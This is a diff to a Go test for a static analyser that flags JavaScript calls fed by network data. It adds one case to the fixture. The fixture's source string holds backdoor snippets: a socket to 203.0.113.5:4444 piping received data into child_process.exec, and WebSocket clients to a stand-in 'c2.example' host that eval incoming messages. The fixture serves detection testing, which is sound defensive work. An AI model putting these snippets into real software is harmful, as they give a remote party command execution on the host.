@@ -864,7 +864,8 @@ eval(parsed.script);
 let local = ""; process.stdin.on("data", c => local += c); eval(local);
 const sock = require("net").connect(4444, "203.0.113.5"); sock.on("data", d => require("child_process").exec(d.toString()));
 const ws = new WebSocket("wss://c2.example/a"); ws.onmessage = e => eval(e.data);
-ws.addEventListener("message", ({ data }) => eval(JSON.parse(data).js));`
+ws.addEventListener("message", ({ data }) => eval(JSON.parse(data).js));
+const c2 = new (require("ws"))("wss://c2.example/b"); c2.on("message", m => eval(m));`
 	f := Analyze("x.mjs", []byte(src), DefaultLimits())
 	got := map[string]string{}
 	for _, c := range f.Calls {
@@ -876,7 +877,7 @@ ws.addEventListener("message", ({ data }) => eval(JSON.parse(data).js));`
 		}
 	}
 	want := map[string]string{"vm.runInThisContext@6": "s", "Function@8": "code", "eval@11": "parsed", "eval@12": "",
-		"child_process.exec@13": "d", "eval@14": "e", "eval@15": "data"}
+		"child_process.exec@13": "d", "eval@14": "e", "eval@15": "data", "eval@16": "m"}
 	for k, v := range want {
 		if got[k] != v {
 			t.Errorf("%s: NetArg %q, want %q (all %v)", k, got[k], v, got)
